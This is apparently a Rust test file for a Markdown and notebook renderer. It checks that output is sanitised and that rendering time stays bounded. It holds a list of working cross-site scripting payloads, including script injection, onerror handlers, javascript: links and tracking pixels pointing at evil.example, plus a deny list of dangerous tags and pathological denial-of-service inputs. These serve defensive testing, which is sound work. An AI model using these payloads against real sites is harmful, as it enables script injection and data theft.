//! Texts of those who mean harm: nothing of them runs, loads or draws outside of its place, and none takes long.

use std::time::{Duration, Instant};

use serde_json::json;

use super::*;

/// Far more than any of these takes, far less than what makes somebody wait.
const PATIENCE: Duration = Duration::from_secs(20);

/// The tags of safe HTML without its text, and without the values of attributes that are no addresses.
fn skeleton(html: &str) -> String {
    let mut skeleton = String::new();
    for tag in html.split('<').skip(1) {
        skeleton.push('<');
        for (index, part) in tag.split('"').enumerate() {
            let address = skeleton.ends_with("href=\"") || skeleton.ends_with("src=\"");
            if index % 2 == 0 {
                // Outside of quotes the tag may end, and then there is only text.
                let (part, text) =
                    part.split_once('>').map_or((part, false), |(part, _)| (part, true));
                skeleton.push_str(part);
                if text {
                    break;
                }
                skeleton.push('"');
            } else {
                skeleton.push_str(if address { part } else { "" });
                skeleton.push('"');
            }
        }
        skeleton.push('>');
    }
    skeleton
}

/// What could run, load or draw outside of its place, however it is written.
#[track_caller]
fn assert_harmless(html: &str, source: &str) {
    let lower = skeleton(html).to_lowercase();
    let words = [
        "<script",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<math",
        "<form",
        "<base",
        "<meta",
        "<link",
        "<video",
        "<audio",
        "<button",
        "<textarea",
        "<select",
        "<template",
        " onerror",
        " onload",
        " onclick",
        " style=",
        " srcset",
        " srcdoc",
        " formaction",
        " xlink",
        "href=\"javascript",
        "href=\"data",
        "href=\"vbscript",
        "src=\"http",
        "src=\"//",
        "src=\"data:text",
        "src=\"data:image/svg",
        " type=\"password",
    ];
    for word in words {
        assert!(!lower.contains(word), "{source:.200} left {word} in {html:.500}");
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=\"a.png\" style=\"position:fixed;background:url(//evil.example)\">",
    "<img srcset=\"https://evil.example/x 2x\">",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input type=password><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=\"https://x.example\" onclick=\"alert(1)\" target=_blank>x</a>",
    "<table background=javascript:alert(1)><td background=//evil.example/x>",
    "<div id=app class=toast aria-hidden=true>x</div>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<video src=https://evil.example/x autoplay></video>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[a]: javascript:alert(1)\n[a]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x\" onerror=\"alert(1)](a.png)",
    "![<img src=x onerror=alert(1)>](a.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>\n",
    "| <script>alert(1)</script> |\n|---|\n| <b onclick=x> |\n",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> </blockquote></div></main><script>alert(1)</script>",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "---\ntitle: <script>alert(1)</script>\n---\nx",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<a href=\"x\"\"onmouseover=alert(1)\">x</a>",
    "<b title=\"`><script>alert(1)</script>\">x</b>",
    "%PDF-1.7 <html><script>alert(1)</script>\nGIF89a/*<svg onload=alert(1)>*/",
];

#[test]
fn nothing_hostile_gets_through_in_markdown() {
    for source in HOSTILE {
        for instance in [None, Some("minimal")] {
            assert_harmless(&markdown(source, &place(instance)).html, source);
        }
    }
    // Nor when it all comes at once, or inside of something else.
    let all = HOSTILE.join("\n\n");
    assert_harmless(&rendered(&all), &all);
    for source in HOSTILE {
        let nested = format!("- a\n  > {}\n", source.replace('\n', "\n  > "));
        assert_harmless(&rendered(&nested), &nested);
    }
}

#[test]
fn nothing_hostile_gets_through_in_notebooks() {
    for source in HOSTILE {
        let cells = json!([
            { "cell_type": "markdown", "source": [source] },
            { "cell_type": "raw", "source": source },
            { "cell_type": source, "source": source },
            { "cell_type": "code", "source": source, "execution_count": 1, "outputs": [
                { "output_type": "stream", "name": source, "text": [source] },
                { "output_type": "error", "ename": source, "evalue": source, "traceback": [source] },
                { "output_type": "error", "ename": source, "evalue": source, "traceback": [] },
                { "output_type": source },
                { "output_type": "display_data", "data": { "text/html": [source], "text/plain": source } },
                { "output_type": "display_data", "data": { "text/html": source } },
                { "output_type": "display_data", "data": { "image/svg+xml": source } },
                { "output_type": "display_data", "data": { "application/javascript": source } },
                { "output_type": "display_data", "data": { source.to_owned(): { "x": source } } },
                { "output_type": "display_data", "data": { "image/png": source, "text/plain": source } },
            ] },
        ]);
        let document = json!({ "nbformat": 4, "metadata": { "title": source }, "cells": cells });
        let made = notebook(document.to_string().as_bytes(), &place(Some("minimal"))).unwrap();
        assert_harmless(&made.html, source);
    }
}

/// Everything there is in Markdown, again and again: what the parsers do for each must not grow with how often.
fn repeated(n: usize) -> Vec<String> {
    vec![
        "&".repeat(n),
        "a\n".repeat(n),
        format!("```\n{}\n```", "a\n".repeat(n)),
        format!("![{}](a.png)", "&".repeat(n)),
        format!("[x](a \"{}\")", "&\n".repeat(n)),
        format!("<a title=\"{}\">x</a>", "&amp;".repeat(n)),
        "a  \n".repeat(n),
        "<br>".repeat(n),
        "<i>\\".repeat(n),
        "| ".repeat(n),
        "x\n\n".repeat(n),
        "\u{0}".repeat(n),
        "&#0;".repeat(n),
        "<p>\n".repeat(n),
        "<img src=a.png>".repeat(n),
        "<table>".repeat(n),
        "<td>".repeat(n),
        "<tr><td>".repeat(n),
        "<table><tr><td>".repeat(n),
        "</p>".repeat(n),
        "<p>x".repeat(n),
        "<li><p>".repeat(n),
        "<a href=x>".repeat(n),
        "<h1>x".repeat(n),
        "*a* ".repeat(n),
        "*a **".repeat(n),
        "1. a\n".repeat(n),
        "[a](b)".repeat(n),
        "![a](b.png)".repeat(n),
        "~~a~~ ".repeat(n),
        "`a`".repeat(n),
        "[^1]".repeat(n),
        "[^1]: x\n\n".repeat(n),
        "[x]: y\n".repeat(n),
        "|a|b|\n|-|-|\n".repeat(n),
        "<table>x".repeat(n),
        "<b>x</b>".repeat(n),
        "<a b=c d=e f=g>x</a>".repeat(n),
    ]
}

#[test]
fn hostile_sizes_and_depths_take_bounded_time() {
    let table =
        format!("|{}\n|{}\n{}", "a|".repeat(5_000), "-|".repeat(5_000), "|x\n".repeat(5_000));
    let formats: Vec<String> = (0..2_000).map(|n| format!("<b title={n}>")).collect();
    let corpus = [
        ">".repeat(100_000),
        "- ".repeat(50_000),
        "<b>".repeat(100_000),
        "<div>\n\n".repeat(30_000),
        "[".repeat(100_000),
        "*a ".repeat(60_000),
        "![".repeat(50_000),
        "<a".repeat(100_000),
        "<!--".repeat(50_000),
        "`".repeat(100_000),
        format!("{}\n\n{}", formats.concat(), "x\n\n".repeat(50_000)),
        "[^a]".repeat(50_000) + "\n\n[^a]: x",
        "# a\n".repeat(60_000),
        "&".repeat(200_000),
        "&amp;".repeat(50_000),
        "<i>\\".repeat(50_000),
        table,
    ];
    for source in corpus.into_iter().chain(repeated(5_000)) {
        let source = source.as_str();
        let begun = Instant::now();
        let html = rendered(source);
        let took = begun.elapsed();
        assert!(took < PATIENCE, "{source:.40} took {took:?}");
        assert_harmless(&html, source);
    }
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep =
        format!("{{\"nbformat\":4,\"cells\":[{{\"cell_type\":\"code\",\"source\":{deep}}}]}}");
    assert!(matches!(notebook(deep.as_bytes(), &place(None)), Err(Damaged::Json(_))));
}
